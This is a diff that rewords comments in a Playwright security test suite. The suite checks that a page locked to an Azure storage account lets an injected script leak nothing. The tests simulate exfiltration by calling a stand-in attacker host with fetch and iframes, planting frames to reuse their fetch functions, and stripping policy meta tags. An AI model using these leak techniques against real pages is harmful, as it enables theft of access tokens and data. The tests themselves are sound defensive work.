@@ -1,5 +1,5 @@
-// The page once it is locked to an account: what a script that got into it can still send, and where. On a host
-// without headers of ours, which is the weaker of the two ways in which the page is delivered.
+// The page once it is locked to an account: what could a script that got into it still send, and where? It runs on a host that sends no
+// headers of ours, which is the weaker of the two ways in which the page is delivered.
 import type { Browser, BrowserContext, Page } from 'playwright/test';
 import { recommendedRule } from './rig/corsRules.ts';
 import { RIG_TENANT } from './rig/tokenCheck.ts';
@@ -12,12 +12,12 @@ import { expect, test as base } from './support/scripted.ts';
 const EVIL = 'evil.table.core.windows.net';
 
 interface Outside {
-  /** Serves the page, without headers of ours. */
+  /** Serves the page without headers of ours. */
   readonly host: BareHost;
   readonly listener: LeakListener;
-  /** Where an Azure table endpoint of somebody else would answer. */
+  /** Stands for the Azure table endpoint of an attacker. */
   readonly evil: LeakListener;
-  /** In a browser that resolves the evil endpoint to the listener on this machine. */
+  /** In a browser that resolves the attacker's endpoint to the listener on this machine. */
   readonly context: BrowserContext;
 }
 
@@ -25,7 +25,9 @@ interface OutsideBrowser extends Pick<Outside, 'listener' | 'evil'> {
   readonly browser: Browser;
 }
 
-/** One for the whole file: starting a browser takes longer than a test, and a fixture of the worker would restart every worker. */
+/**
+ * One for the whole file, because starting a browser takes longer than a test. As a fixture of the worker, it would restart every worker.
+ */
 let outsideBrowser: OutsideBrowser;
 
 const test = base.extend<{ readonly outside: Outside }>({
@@ -74,7 +76,7 @@ test('an injected script gets nothing out, by no channel, to no other host', asy
   const page = await context.newPage();
   await page.goto(`${host.origin}/#/query`);
   await idle(page);
-  // Both can be reached as long as no SAS is there: the page does not know yet which account it will be.
+  // Before there is a SAS both can be reached, because the page does not know yet which account will be used.
   const reach = (url: string) => page.evaluate((to) => fetch(to).then(String, String), url);
   await reach(`${here}/before/fetch`);
   await reach(`https://${EVIL}/before`);
@@ -87,19 +89,19 @@ test('an injected script gets nothing out, by no channel, to no other host', asy
     await page.evaluate(tryMove, { base: `${here}/204/locked`, way });
     await page.evaluate(tryMove, { base: `${here}/saved/locked`, way });
   }
-  // Nor after the elements that hold the policies are gone.
+  // Removing the elements that contain the policies does not open a way either.
   await page.evaluate(() => {
     for (const meta of document.querySelectorAll('meta')) meta.remove();
   });
   await tryEveryChannel(page, `${here}/without-meta`);
   await idle(page);
 
-  // In a page without a policy every channel leaks, and by then the attempts above would have arrived.
+  // In a page without a policy every channel leaks. By the time these requests arrive, those above would have arrived too.
   const unprotected = await context.newPage();
   await unprotected.goto(`${host.origin}/unprotected.html`);
   await tryEveryChannel(unprotected, `${here}/open`);
   await expect.poll(() => CHANNELS.filter((one) => !arrived(listener, 'open').includes(one))).toEqual([]);
-  // Navigations leak too: an answer of 204 leaves the page as it is, ready for the next one.
+  // Navigation leaks too. An answer of 204 leaves the page as it is, so that the next way can be tried.
   for (const way of MOVES) {
     await unprotected.evaluate(tryMove, { base: `${here}/204/open`, way });
     await expect.poll(listener.paths).toContain(`/204/open/${way}`);
@@ -109,21 +111,21 @@ test('an injected script gets nothing out, by no channel, to no other host', asy
   expect(listener.paths().filter((path) => !/^\/(?:before|open|204\/open)\//.test(path))).toEqual([]);
   expect(evil.paths()).toEqual(['/before']);
 
-  // And the page still does what it is for.
+  // The page must still do its job.
   await chooseTable(page, 'Orders');
   expect(await runQuery(page)).toMatch(/^Complete: /);
 });
 
 const PLANTED = 3;
 
-/** Inside of a page: frames in several places, and a way to their `fetch`. */
+/** Runs in the page: adds frames in several places and keeps their `fetch` functions. */
 function plantFrames(): void {
   const add = (parent: ParentNode): Window | null => {
     const frame = document.createElement('iframe');
     parent.append(frame);
     return frame.contentWindow;
   };
-  // Beside the body, in it, and within another frame.
+  // One beside the body, one in it, and one within another frame.
   const outer = add(document.body);
   const inner = outer === null ? null : add(outer.document.body);
   const planted = [add(document.documentElement), outer, inner];
@@ -134,13 +136,13 @@ function plantFrames(): void {
   );
 }
 
-/** Runs in a page: sends by each of them. */
+/** Runs in the page: sends a request with each of these functions. */
 function sendThroughPlanted(to: string): void {
   for (const send of Reflect.get(window, 'planted') as readonly (typeof fetch)[]) {
     try {
       send(to).catch(() => undefined);
     } catch {
-      // A frame that is gone throws at once.
+      // The function of a frame that is gone throws at once.
     }
   }
 }
@@ -176,8 +178,8 @@ test('a frame that was made before the lock, and so does not have it, is gone; w
   await expect
     .poll(() => page.evaluate(() => (Reflect.get(window, 'seenByObserver') as string[]).join(' ')))
     .toContain('sig=');
-  // What it can send: a host name, since the browser connects for a frame before it asks the policy; a connection of
-  // WebRTC; and what opens another tab.
+  // What it can send: a host name, because the browser connects for a frame before it asks the policy; a WebRTC connection; and anything
+  // that opens another tab.
   await page.evaluate((src) => {
     document.body.append(Object.assign(document.createElement('iframe'), { src }));
   }, `https://${EVIL}`);
@@ -213,7 +215,7 @@ test('a page inside another page does not connect and says why', async ({
   await expect(dialog.getByRole('link', { name: 'Open in a new tab' })).toBeVisible();
   await expect(dialog.getByRole('textbox')).toHaveCount(0);
   await expect(dialog.getByRole('button', { name: /Connect/ })).toHaveCount(0);
-  // Where headers can be sent, it is not even shown.
+  // If the host sends headers, the page is not even shown in a frame.
   await page.evaluate((url) => {
     const frame = document.createElement('iframe');
     frame.id = 'with-headers';
@@ -243,7 +245,7 @@ test.describe('another account', () => {
     await expect(refused.getByRole('alert')).toContainText('403');
     const field = refused.getByRole('textbox', { name: 'SAS URL or connection string' });
 
-    // The same account may be tried again; another one, or the demo, may not.
+    // Only the same account may be tried again, not another one and not the demo.
     for (const press of [
       async () => {
         await field.fill(second.sasUrl);
@@ -276,7 +278,7 @@ test.describe('another account', () => {
 test.describe('redirects', () => {
   test.use({ expectedErrors: [/Failed to load resource|Fetch API cannot load/] });
 
-  // With a SAS, which is sent as plainly, see diagnosis.spec.ts.
+  // diagnosis.spec.ts tests this with a SAS, which a redirect would pass on just as easily.
   test('are not followed with an access token, inside of the account or out of it', async ({
     page,
     outside: { listener },
@@ -304,5 +306,5 @@ test.describe('redirects', () => {
   });
 });
 
-// A leak or a false Complete that comes only sometimes must fail. One worker, so that one more browser is started, not two.
+// No second try, since a leak that happens only sometimes must fail too. In one worker, so that only one more browser is started.
 test.describe.configure({ mode: 'default', retries: 0 });
